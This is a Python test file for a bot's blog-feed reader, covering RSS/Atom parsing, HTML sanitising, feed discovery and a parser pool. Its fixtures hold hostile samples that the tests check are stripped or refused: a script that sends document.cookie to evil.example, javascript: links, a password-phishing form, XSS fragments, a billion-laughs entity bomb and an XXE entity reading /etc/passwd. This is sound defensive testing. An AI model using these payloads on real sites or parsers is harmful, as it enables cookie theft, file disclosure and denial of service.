"""Member blog feeds: parsing bad and good documents, cleaning entry HTML, discovering feeds
from a blog's home page, and polling through the pool."""

from __future__ import annotations

import time
from collections.abc import AsyncIterator, Iterator
from datetime import UTC, datetime

import pytest
from aiohttp import web
from hypothesis import given
from hypothesis import strategies as st

from bot.fetch.addresses import AddressPolicy
from bot.fetch.client import FetchLimits, SafeFetcher, StaticResolver
from bot.fetch.feeds import (
    FeedError,
    FeedReader,
    clean_html,
    declares_entities,
    discover_feeds,
    parse_feed,
)
from bot.fetch.pool import ParseFailed, ParserPool
from tests.fakes.sites import FakeSite
from tests.fakes.workloads import crash, runaway

pytestmark = pytest.mark.timeout(30)

FEED_URL = "https://ada.example/feed.xml"

RSS = """<?xml version="1.0" encoding="utf-8"?>
<rss version="2.0"><channel>
<title>Ada &amp; her notes</title><link>https://ada.example/</link>
<item>
  <title>Week one</title><link>/posts/week-one</link><guid>tag:ada.example,2026:1</guid>
  <pubDate>Mon, 23 Nov 2026 10:00:00 +0200</pubDate>
  <description><![CDATA[<p onclick="steal()">I learned <b>a lot</b>.
    <script>document.location='https://evil.example/?c='+document.cookie</script>
    <a href="java&#x09;script:alert(1)">click</a>
    <a href="/about">about me</a>
    <img src="https://feeds.feedburner.com/~r/ada/~4/abc" height="1" width="1">
    <img src="https://ada.example/stats/p.gif" width="1" height="1">
    <img src="/img/diagram.png" alt="diagram" width="600">
    <form action="https://evil.example/"><input name="password"><button>Go</button></form>
    <iframe src="https://evil.example/"></iframe><style>p{display:none}</style></p>]]></description>
</item>
<item>
  <title>Week &lt;em&gt;two&lt;/em&gt;</title><link>https://ada.example/posts/week-two</link>
  <guid>tag:ada.example,2026:2</guid><pubDate>Mon, 30 Nov 2026 08:00:00 GMT</pubDate>
  <description>Short and plain.</description>
</item>
</channel></rss>"""

ATOM = """<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom">
  <title type="html">Bob &lt;i&gt;writes&lt;/i&gt;</title>
  <link href="https://bob.example/"/><id>urn:bob</id><updated>2026-11-24T12:00:00-05:00</updated>
  <entry>
    <title>Notes</title><id>urn:bob:1</id>
    <link rel="alternate" href="https://bob.example/notes"/>
    <updated>2026-11-24T12:00:00-05:00</updated>
    <summary>Summary only</summary>
    <content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"
      ><p>Full <em>content</em></p></div></content>
  </entry>
</feed>"""

BOMB = (
    '<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n'
    + "".join(
        f' <!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">\n'
        for i in range(1, 10)
    )
    + ']>\n<rss version="2.0"><channel><title>&lol9;</title></channel></rss>'
)


def test_entries_come_out_clean_and_dated() -> None:
    feed = parse_feed(RSS.encode(), FEED_URL, "application/rss+xml", "utf-8")
    assert feed.title == "Ada & her notes"
    assert feed.link == "https://ada.example/"
    assert feed.complete
    first, second = feed.entries
    assert first.entry_id == "tag:ada.example,2026:1"
    assert first.link == "https://ada.example/posts/week-one"
    assert first.title == "Week one"
    assert first.published == datetime(2026, 11, 23, 8, 0, tzinfo=UTC)
    assert second.title == "Week two"
    assert second.summary_html == "Short and plain."
    html = first.summary_html
    words = "<script document.cookie javascript onclick <form <input <button <iframe <style"
    for banned in [*words.split(), "feedburner", "p.gif", 'height="1"']:
        assert banned not in html, banned
    assert '<img src="https://ada.example/img/diagram.png" alt="diagram" width="600">' in html
    assert '<a href="https://ada.example/about" rel="noopener noreferrer nofollow ugc">' in html
    assert "I learned <b>a lot</b>." in html


def test_atom_prefers_full_content_and_converts_times_to_utc() -> None:
    feed = parse_feed(ATOM.encode(), "https://bob.example/atom", "application/atom+xml")
    assert feed.title == "Bob writes"
    (entry,) = feed.entries
    assert entry.published == datetime(2026, 11, 24, 17, 0, tzinfo=UTC)
    assert entry.published.tzinfo is UTC
    assert "<p>Full <em>content</em></p>" in entry.summary_html
    assert entry.link == "https://bob.example/notes"


def test_content_hash_follows_the_content() -> None:
    one = parse_feed(RSS.encode(), FEED_URL).entries[1]
    again = parse_feed(RSS.encode(), FEED_URL).entries[1]
    edited = parse_feed(RSS.replace("Short and plain.", "Edited.").encode(), FEED_URL).entries[1]
    assert one.content_hash == again.content_hash != edited.content_hash
    assert one.entry_id == edited.entry_id


def test_entity_declarations_are_refused_before_parsing() -> None:
    for data in (
        BOMB.encode(),
        BOMB.encode("utf-16"),
        BOMB.replace('version="1.0"', 'version="1.0" encoding="utf-16be"').encode("utf-16-be"),
        BOMB.replace('version="1.0"', 'version="1.0" encoding="cp037"').encode("cp037"),
        b'<?xml version="1.0"?><!DOCTYPE x [<!-- <x> --><!ENTITY a SYSTEM "file:///etc/passwd">]>'
        b"<rss><channel><title>&a;</title></channel></rss>",
    ):
        started = time.perf_counter()
        with pytest.raises(FeedError) as refused:
            parse_feed(data, FEED_URL)
        assert refused.value.reason == "entities"
        assert time.perf_counter() - started < 0.5


@given(st.text(max_size=200), st.text(max_size=200), st.sampled_from(["utf-8", "utf-16", "utf-32"]))
def test_an_entity_declaration_is_found_wherever_it_hides(
    before: str, after: str, encoding: str
) -> None:
    document = f'{before}<!ENTITY x "y">{after}'.encode(encoding, errors="surrogatepass")
    assert declares_entities(document)


def test_not_xml_is_a_clear_error() -> None:
    for data, words in (
        (b"<!doctype html><html><body>My blog</body></html>", "web page"),
        (b"\x00\x01\x02 definitely not xml", "no RSS or Atom feed"),
        (b"/etc/passwd", "no RSS or Atom feed"),  # never opened as a file
        (b"   ", "empty"),
    ):
        with pytest.raises(FeedError) as error:
            parse_feed(data, FEED_URL)
        assert words in str(error.value)


def test_a_truncated_feed_keeps_only_finished_entries() -> None:
    cut = RSS[: RSS.index("Short and plain.")]
    feed = parse_feed(cut.encode(), FEED_URL)
    assert not feed.complete
    assert [e.title for e in feed.entries] == ["Week one"]
    head_only = parse_feed(RSS[:200].encode(), FEED_URL)
    assert head_only.entries == () and not head_only.complete


FRAGMENTS = [
    "<script>alert(1)</script>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVa&#x09;ScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<img src="x" onerror="alert(1)">',
    '<img src="https://t.example/p.gif" width="1" height="1">',
    '<img src="https://t.example/p.gif" width="0">',
    "<form><input></form>",
    '<svg onload="alert(1)"><script>1</script></svg>',
    "<style>*{}</style>",
    '<p style="background:url(javascript:alert(1))">',
    "<b>ok</b>",
    "<p>text</p>",
    "&lt;script&gt;",
    "<",
    ">",
    '"',
    "<!--",
    "-->",
    "<iframe>",
]


@given(st.lists(st.one_of(st.sampled_from(FRAGMENTS), st.text(max_size=20)), max_size=12))
def test_cleaned_html_never_carries_active_content(parts: list[str]) -> None:
    cleaned = clean_html("".join(parts), "https://ada.example/post").lower()
    assert "<script" not in cleaned
    assert "javascript:" not in cleaned
    assert "onerror" not in cleaned and "onload" not in cleaned
    assert "<form" not in cleaned and "<input" not in cleaned and "<iframe" not in cleaned
    assert "style=" not in cleaned
    assert 'width="1"' not in cleaned and 'width="0"' not in cleaned


def test_discovery_reads_alternate_links() -> None:
    page = b"""<html><head><base href="https://cy.example/blog/">
      <link rel="alternate" type="application/rss+xml" href="rss.xml">
      <link rel="Alternate home" type="application/atom+xml" href="/atom.xml">
      <link rel="alternate" type="text/html" href="/print">
      <link rel="alternate" type="application/rss+xml" href="javascript:alert(1)">
      <link rel="stylesheet" type="application/rss+xml" href="/not-a-feed.xml"></head></html>"""
    assert discover_feeds(page, "https://cy.example/") == (
        "https://cy.example/atom.xml",
        "https://cy.example/blog/rss.xml",
    )
    assert discover_feeds(b"<html><head></head></html>", "https://cy.example/") == ()


@pytest.fixture(scope="module")
def pool() -> Iterator[ParserPool]:
    pool = ParserPool(workers=2, timeout=10)
    yield pool
    pool.close()


async def test_the_pool_survives_runaways_and_crashes() -> None:
    pool = ParserPool(workers=1, timeout=0.5)
    try:
        with pytest.raises(ParseFailed, match="longer than"):
            await pool.run(runaway)
        pool.timeout = 10  # the fresh workers below may be slow to import on a busy machine
        with pytest.raises(ParseFailed, match="died"):
            await pool.run(crash)
        with pytest.raises(FeedError) as error:
            await pool.run(parse_feed, BOMB.encode(), FEED_URL)
        assert error.value.reason == "entities"
        feed = await pool.run(parse_feed, RSS.encode(), FEED_URL)
        assert len(feed.entries) == 2
    finally:
        pool.close()


@pytest.fixture
async def blog() -> AsyncIterator[FakeSite]:
    site = FakeSite()
    await site.start()
    yield site
    await site.stop()


def reader_for(site: FakeSite, pool: ParserPool) -> tuple[SafeFetcher, FeedReader]:
    fetcher = SafeFetcher(
        FetchLimits(
            policy=AddressPolicy.allowing("127.0.0.1/32"), extra_ports=frozenset({site.port})
        ),
        resolver=StaticResolver({"ada.test": ["127.0.0.1"]}),
    )
    return fetcher, FeedReader(fetcher, pool)


async def test_a_member_adds_their_blog_by_its_home_page(blog: FakeSite, pool: ParserPool) -> None:
    blog.page(
        "/",
        '<html><head><link rel="alternate" type="application/rss+xml" href="/feed.xml">'
        '<link rel="alternate" type="application/atom+xml" href="/broken.xml"></head></html>',
    )
    blog.page("/broken.xml", b"<feed", content_type="application/atom+xml")
    blog.page("/feed.xml", RSS, content_type="application/rss+xml")
    blog.page("/nothing", "<html><head><title>No feed</title></head></html>")
    blog.page("/mislabelled.xml", RSS, content_type="text/html")
    fetcher, reader = reader_for(blog, pool)
    async with fetcher:
        feed = await reader.discover(blog.url("/", "ada.test"))
        assert feed.url == blog.url("/feed.xml", "ada.test")
        assert [e.title for e in feed.entries] == ["Week one", "Week two"]
        direct = await reader.discover(blog.url("/feed.xml", "ada.test"))
        assert direct.url == feed.url
        mislabelled = await reader.discover(blog.url("/mislabelled.xml", "ada.test"))
        assert len(mislabelled.entries) == 2
        with pytest.raises(FeedError) as none:
            await reader.discover(blog.url("/nothing", "ada.test"))
    assert none.value.reason == "no-feed"


async def test_polling_uses_conditional_get(blog: FakeSite, pool: ParserPool) -> None:
    async def feed(request: web.Request) -> web.StreamResponse:
        if request.headers.get("If-None-Match") == '"r1"':
            return web.Response(status=304, headers={"ETag": '"r1"'})
        return web.Response(text=RSS, content_type="application/rss+xml", headers={"ETag": '"r1"'})

    blog.route("/feed.xml", feed)
    fetcher, reader = reader_for(blog, pool)
    async with fetcher:
        first = await reader.read(blog.url("/feed.xml", "ada.test"))
        second = await reader.read(blog.url("/feed.xml", "ada.test"), etag=first.etag)
    assert first.feed is not None and len(first.feed.entries) == 2
    assert first.etag == '"r1"'
    assert second.feed is None and second.etag == '"r1"'


async def test_polling_a_bomb_is_refused(blog: FakeSite, pool: ParserPool) -> None:
    blog.page("/feed.xml", BOMB, content_type="application/rss+xml")
    fetcher, reader = reader_for(blog, pool)
    async with fetcher:
        with pytest.raises(FeedError) as refused:
            await reader.read(blog.url("/feed.xml", "ada.test"))
    assert refused.value.reason == "entities"


@given(st.integers(min_value=0, max_value=len(RSS)), st.binary(max_size=40))
def test_any_cut_or_garbled_feed_gives_entries_or_a_feed_error(cut: int, noise: bytes) -> None:
    data = RSS.encode()[:cut] + noise
    try:
        feed = parse_feed(data, FEED_URL)
    except FeedError as error:
        assert error.reason in {"empty", "entities", "not-a-feed"}
        return
    for entry in feed.entries:
        assert entry.entry_id and entry.content_hash
        assert "<script" not in entry.summary_html
        assert entry.published is None or entry.published.tzinfo is UTC


@pytest.mark.parametrize(
    "encoding",
    ["base64", "rot13", "zlib", "hex", "idna", "utf-7", "punycode", "undefined", "bogus", "cp037"],
)
def test_odd_declared_encodings_give_entries_or_a_feed_error(encoding: str) -> None:
    document = RSS.replace('encoding="utf-8"', f'encoding="{encoding}"').encode()
    for charset in (None, encoding):
        try:
            feed = parse_feed(document, FEED_URL, "application/rss+xml", charset)
        except FeedError as error:
            assert error.reason == "not-a-feed"
        else:
            assert all("<script" not in entry.summary_html for entry in feed.entries)


@pytest.mark.parametrize(
    "image",
    [
        '<img src="https://cdn.any.example/a.gif" style="display:none">',
        '<img src="https://cdn.any.example/a.gif" style="visibility: hidden">',
        '<img src="https://cdn.any.example/a.gif" style="width:1px;height:1px">',
        '<img src="https://cdn.any.example/a.gif" style="WIDTH: 0; height: 0">',
        '<img src="https://cdn.any.example/a.gif" style="opacity:0">',
        '<img src="https://cdn.any.example/a.gif" hidden>',
        '<img src="https://cdn.any.example/a.gif" width="0" height="0">',
        '<img src="https://cdn.any.example/a.gif" height="1px">',
    ],
)
def test_tracking_pixels_are_removed_whatever_host_serves_them(image: str) -> None:
    assert "<img" not in clean_html(f"<p>Hello {image}</p>", "https://ada.example/post")


def test_a_styled_picture_stays_without_its_style() -> None:
    cleaned = clean_html(
        '<img src="https://cdn.any.example/a.png" style="max-width:100%" width="600">',
        "https://ada.example/post",
    )
    assert cleaned == '<img src="https://cdn.any.example/a.png" width="600">'


def rss_items(*items: str) -> bytes:
    return (
        '<?xml version="1.0"?><rss version="2.0"><channel><title>T</title>'
        "<link>https://ada.example/</link>"
        + "".join(f"<item>{i}</item>" for i in items)
        + "</channel></rss>"
    ).encode()


def test_an_empty_item_is_skipped_a_link_only_item_is_kept() -> None:
    feed = parse_feed(
        rss_items(
            "",
            "<link>https://ada.example/only-a-link</link>",
            "<link>https://ada.example/another</link>",
            "<title>  </title><description></description>",
        ),
        FEED_URL,
    )
    assert [entry.link for entry in feed.entries] == [
        "https://ada.example/only-a-link",
        "https://ada.example/another",
    ]
    assert len({entry.content_hash for entry in feed.entries}) == 2


def test_relative_links_resolve_against_xml_base_then_the_entry_link_then_the_feed() -> None:
    doc = b"""<?xml version="1.0"?>
<feed xmlns="http://www.w3.org/2005/Atom"><title>T</title><id>urn:t</id>
<entry xml:base="https://cdn.example/posts/"><id>1</id><title>a</title>
  <link href="https://ada.example/p/one"/>
  <content type="html">&lt;a href="x.html"&gt;x&lt;/a&gt;</content></entry>
<entry><id>2</id><title>b</title><link href="https://ada.example/p/two"/>
  <content type="html">&lt;a href="y.html"&gt;y&lt;/a&gt;</content></entry>
<entry><id>3</id><title>c</title>
  <content type="html">&lt;a href="z.html"&gt;z&lt;/a&gt;</content></entry>
</feed>"""
    one, two, three = parse_feed(doc, "https://feeds.example/ada/atom.xml").entries
    assert 'href="https://cdn.example/posts/x.html"' in one.summary_html
    assert one.link == "https://ada.example/p/one"
    assert 'href="https://ada.example/p/y.html"' in two.summary_html
    assert 'href="https://feeds.example/ada/z.html"' in three.summary_html


def test_a_malformed_feed_says_what_was_wrong() -> None:
    cut = parse_feed(RSS[: RSS.index("Short and plain.")].encode(), FEED_URL)
    assert cut.problem is not None and "line" in cut.problem
    assert parse_feed(RSS.encode(), FEED_URL).problem is None
    # a mislabelled but well-formed feed is not a problem worth showing
    plain = parse_feed(RSS.encode(), FEED_URL, "text/plain")
    assert plain.problem is None
